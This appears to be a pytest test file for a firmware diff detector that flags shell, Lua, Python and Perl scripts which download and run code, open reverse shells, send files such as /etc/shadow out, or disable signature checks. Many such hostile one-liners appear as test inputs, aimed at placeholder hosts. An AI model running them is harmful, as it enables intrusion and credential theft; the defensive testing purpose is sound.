"""What is said of scripts."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trueware.explaining.detectors.scripts import Scripts
from trueware.explaining.reading.script_actions import actions_in_shell, actions_in_text
from trueware.model.finding import Finding, Severity

from .cases import File, all_rules, case, findings

PATH = "usr/bin/job.sh"
BASE = "#!/bin/sh\n# does things\nPATH=/bin\nstart() {\n\techo starting\n\tdaemon -f\n}\nstart\n"


def found(after: str, before: str = BASE, path: str = PATH) -> list[Finding]:
    return findings(Scripts, case({path: before.encode()}, {path: after.encode()}))


def rules(after: str, before: str = BASE, path: str = PATH) -> list[str]:
    return [each.rule for each in found(after, before, path)]


@pytest.mark.parametrize(
    "line",
    [
        "wget -q -O - http://198.51.100.7/x | sh",
        "curl -s http://host.example/x | /bin/bash -s",
        "wget http://host.example/x.sh && sh x.sh",
        "curl -o /tmp/x http://host.example/x\nchmod +x /tmp/x\n/tmp/x &",
        "tftp -g -r x -l /tmp/x 192.0.2.9; chmod 755 /tmp/x",
        "wget -O /tmp/p.ipk http://host.example/p.ipk; opkg install /tmp/p.ipk",
        'sh -c "$(curl -fsSL http://host.example/x)"',
        "cd /tmp; busybox wget http://host.example/bin.mips; ./bin.mips",
        "URL=http://host.example/a\nwget $URL -O /tmp/a\n. /tmp/a",
        "curl http://host.example/x > /tmp/x\nsh /tmp/x",
    ],
)
def test_fetched_and_run(line: str) -> None:
    (finding,) = found(BASE + line + "\n")
    assert finding.rule == "script-downloads-code"
    assert any(each.startswith("host:") or "192.0.2.9" in each for each in finding.touches) or "tftp" in line


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("nc 203.0.113.5 4444 -e /bin/sh", "script-opens-shell"),
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "script-opens-shell"),
        ("telnetd -p 4444 -l /bin/sh", "script-opens-shell"),
        ("socat tcp:203.0.113.5:1 exec:/bin/sh", "script-opens-shell"),
        ("nc 203.0.113.5 99 < /etc/shadow", "script-sends-data"),
        ("curl -d @/etc/passwd http://host.example/c", "script-sends-data"),
        ("curl -X POST --data-binary @/tmp/x http://host.example/c", "script-sends-data"),
        ("wget --post-file=/tmp/x http://host.example/", "script-sends-data"),
        ("tftp -p -l /etc/config/wireless 203.0.113.9", "script-sends-data"),
        ("scp /etc/shadow user@host.example:/x", "script-sends-data"),
        ("ftpput -u a -p b 203.0.113.9 x x", "script-sends-data"),
        ("wget -q -O /dev/null http://host.example/ping", "script-contacts"),
    ],
)
def test_what_leaves(line: str, rule: str) -> None:
    assert rules(BASE + line + "\n") == [rule]
    assert rules(BASE + line + "\n", BASE + line + " # as ever\n") == ["script-restyled"]


@pytest.mark.parametrize(
    "line",
    [
        "echo wget http://host.example/x",
        "# wget http://host.example/x | sh",
        "sha256sum /tmp/x",
        "chmod +x /tmp/own",
        "nc -h",
        "curl --version",
    ],
)
def test_what_does_not(line: str) -> None:
    assert set(rules(BASE + line + "\n")) <= {"script-changed", "script-restyled"}


def test_a_new_path_at_an_old_host_is_only_a_changed_line() -> None:
    assert rules(BASE + "wget http://h.example/b\n", BASE + "wget http://h.example/a\n") == ["script-changed"]


CHECK = """#!/bin/sh
platform_check_image() {
\tif ! usign -V -q -m "$1" -p /etc/key.pub; then
\t\techo bad; return 1
\tfi
\tsha256sum -c sums || exit 1
\treturn 0
}
"""


@pytest.mark.parametrize(
    ("after", "expected"),
    [
        (CHECK.replace('usign -V -q -m "$1" -p /etc/key.pub', "false"), ["script-check-removed"]),
        (CHECK.replace("return 1", "return 0"), ["script-check-defused"]),
        (CHECK.replace("exit 1", "true"), ["script-check-defused"]),
        (CHECK.replace("platform_check_image() {", "platform_check_image() {\n\treturn 0"), ["script-check-defused"]),
        (CHECK.replace("-q -m", "-m"), ["script-changed"]),
        (CHECK.replace("return 1", "return 2"), ["script-changed"]),
        (CHECK.replace("echo bad", "echo 'bad image'"), ["script-changed"]),
        (CHECK.replace("sums", "/tmp/sums"), ["script-changed"]),
        (CHECK + "cmd\nsha256sum -c more || exit 1\n", ["script-changed"]),
    ],
)
def test_checks(after: str, expected: list[str]) -> None:
    assert rules(after, CHECK, "lib/upgrade/platform.sh") == expected


@pytest.mark.parametrize(("old", "new"), [("set -e\n", ""), ("set -eu\n", "set -u\n"), ("set -o errexit\n", "")])
def test_a_check_after_which_a_script_goes_on(old: str, new: str) -> None:
    rest = "md5sum $1 > sum\ndiff sum wanted\nmtd write $1 firmware\n"
    assert rules("#!/bin/sh\n" + new + rest, "#!/bin/sh\n" + old + rest, "usr/bin/fwu.sh") == ["script-check-defused"]
    assert rules("#!/bin/sh\n" + new + rest, "#!/bin/sh\n" + old + rest, "usr/bin/other") == ["script-changed"]
    assert rules("#!/bin/sh\n" + rest, "#!/bin/sh -e\n" + rest, "usr/bin/fwu.sh") == ["script-check-defused"]


def test_success_for_failure_in_a_script_that_checks_nothing_is_a_changed_line() -> None:
    assert rules(BASE + "exit 0\n", BASE + "exit 1\n") == ["script-changed"]


@pytest.mark.parametrize(
    "after",
    [
        BASE.replace("# does things", "# does other things"),
        BASE.replace("\t", "    "),
        BASE + "\n\n",
        BASE.replace("\n", "\r\n"),
    ],
)
def test_comments_and_blanks(after: str) -> None:
    assert rules(after) == ["script-restyled"]
    assert found(after)[0].severity is Severity.INFO


def test_changed_lines_are_shown_beside_each_other() -> None:
    (finding,) = found(BASE.replace("daemon -f", "daemon -f --debug"))
    assert finding.rule == "script-changed"
    assert [(each.where, each.expected, each.found) for each in finding.evidence] == [
        ("line 6", "daemon -f", "daemon -f --debug")
    ]


def test_added_and_removed() -> None:
    (finding,) = findings(Scripts, case({"a": b""}, {"a": b"", PATH: BASE.encode()}))
    assert (finding.rule, finding.detail) == ("script-added", "a shell script of 8 lines, runs daemon, start")
    assert [each.rule for each in findings(Scripts, case({"a": b"", PATH: BASE.encode()}, {"a": b""}))] == [
        "script-removed"
    ]
    (finding,) = findings(Scripts, case({"a": b""}, {"a": b"", PATH: b"#!/bin/sh\ncurl http://h.example/x | sh\n"}))
    assert finding.rule == "script-downloads-code"


@pytest.mark.parametrize(
    ("path", "line", "rule"),
    [
        ("usr/lib/lua/x.lua", 'os.execute("wget -O- http://h.example/x | sh")', "script-downloads-code"),
        ("usr/lib/lua/x.lua", 'loadstring(http.request("http://h.example/x"))()', "script-downloads-code"),
        ("usr/bin/x.py", "os.system('nc 203.0.113.4 99 -e /bin/sh')", "script-opens-shell"),
        ("usr/bin/x.py", "exec(urllib.request.urlopen('http://h.example/x').read())", "script-downloads-code"),
        ("usr/bin/x.pl", 'system("curl -d @/etc/shadow http://h.example/");', "script-sends-data"),
        ("usr/bin/x.py", "# os.system('nc 203.0.113.4 99 -e /bin/sh')", "script-restyled"),
        ("usr/bin/x.py", "print('curl http://h.example/x | sh')", "script-changed"),
        ("usr/lib/lua/x.lua", "local a = 1 -- wget", "script-changed"),
        ("usr/lib/lua/x.lua", "-- os.execute('reboot')", "script-restyled"),
    ],
)
def test_other_languages(path: str, line: str, rule: str) -> None:
    assert rules("x = 1\n" + line + "\n", "x = 1\n", path) == [rule]


@pytest.mark.parametrize("path", ["www/index.html", "etc/config/network", "usr/lib/x.so", "etc/passwd"])
def test_what_is_no_script(path: str) -> None:
    assert rules("curl http://h.example | sh\n", "x\n", path) == []
    assert found("\0binary", "\0other", "etc/init.d/x") == []


def test_modes_and_moves_say_nothing() -> None:
    assert findings(Scripts, case({PATH: BASE.encode()}, {PATH: File(BASE.encode(), mode=0o755)})) == []
    assert findings(Scripts, case({PATH: BASE.encode()}, {"usr/bin/other.sh": BASE.encode()})) == []


def test_all_detectors_together_say_it_once() -> None:
    told = all_rules(case({PATH: BASE.encode()}, {PATH: (BASE + "curl http://h.example/x | sh\n").encode()}))
    assert told.count("script-downloads-code") == 1
    assert "script-changed" not in told


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes(data: bytes) -> None:
    actions_in_shell(data)
    actions_in_text(data)
    findings(Scripts, case({PATH: BASE.encode()}, {PATH: data}))


@pytest.mark.parametrize(
    ("path", "before", "after", "expected"),
    [
        ("etc/rc.local", "exit 0\n", "/usr/bin/logger started\nexit 0\n", ["start-script-does-more"]),
        ("etc/init.d/rc34", "mount -a\n", "mount -a\n/bin/echo x > /var/log/x\n", ["start-script-does-more"]),
        ("etc/init.d/rc34", "mount -a\n", "mount -t proc\n", ["script-changed"]),
        ("usr/bin/job.sh", "mount -a\n", "mount -a\n/bin/echo x\n", ["script-changed"]),
        ("etc/rc.local", "exit 0\n", "# a word\nexit 0\n", ["script-restyled"]),
    ],
)
def test_a_line_added_to_what_runs_at_start(path: str, before: str, after: str, expected: list[str]) -> None:
    assert rules("#!/bin/sh\n" + after, "#!/bin/sh\n" + before, path) == expected


@pytest.mark.parametrize(
    ("check", "expected"),
    [
        ('verify-signature "$1" || exit 1', ["script-check-removed"]),
        ('check_image_hash "$1" || exit 1', ["script-check-removed"]),
        ('check_network "$1" || exit 1', ["script-changed"]),
        ("logger checking the signature", ["script-changed"]),
    ],
)
def test_a_check_that_says_by_its_name_what_it_is(check: str, expected: list[str]) -> None:
    before = f'#!/bin/sh\n{check}\nflash "$1"\n'
    assert rules(before.replace(check + "\n", ""), before, "bin/acme-load") == expected
